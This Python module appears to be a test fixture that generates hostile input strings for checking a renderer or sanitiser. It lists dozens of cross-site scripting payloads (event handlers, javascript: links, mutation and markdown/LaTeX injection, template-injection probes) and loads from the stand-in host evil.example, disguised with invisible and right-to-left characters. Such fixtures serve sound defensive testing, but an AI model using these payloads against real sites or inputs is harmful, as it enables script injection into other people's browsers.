"""Text that would run, load or break out if anything took it for more than text."""

from itertools import product

_RUN = "window.hacked=1"
_AWAY = "http://evil.example/x"

_ATTACKS = (
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}></script>",
    f"</p></section></article><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}.png>",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img title='</style><img src=x onerror={_RUN}>'>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src={_AWAY}>",
    f"<video><source onerror={_RUN}></video>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href='javascript:{_RUN}'>оқу</a>",
    f"<form action={_AWAY}><button>жіберу</button></form>",
    f"<link rel=stylesheet href={_AWAY}.css>",
    f"<style>@import url({_AWAY}.css); * {{ background: url({_AWAY}.png) }}</style>",
    f"<base href={_AWAY}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"[оқу](javascript:{_RUN})",
    f"[оқу]({_AWAY})",
    f"![сурет]({_AWAY}.png)",
    f"![сурет][a] [a]: {_AWAY}.png",
    f"<{_AWAY}>",
    f"`<img src=x onerror={_RUN}>`",
    f"```html <script>{_RUN}</script> ```",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"$\\includegraphics{{{_AWAY}.png}}$",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}} #{{{_RUN}}} <%= {_RUN} %>",
    "{0} {question} %s %(x)s {__class__.__mro__}",
    f"javascript:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    "# Тақырып *көлбеу* **қалың** ~~сызылған~~ | а | б |",
)

_DISGUISES = (
    "{}",
    "\u202e{}\u202c",  # written from right to left
    "\u200b{}\u200d\ufeff",  # between characters that do not show
    "Алма бағасы {} теңге болды.",
    "{} &amp; \u0000\u0007",  # with characters that no text has
)

HOSTILE_TEXTS = tuple(disguise.replace("{}", attack) for attack, disguise in product(_ATTACKS, _DISGUISES))
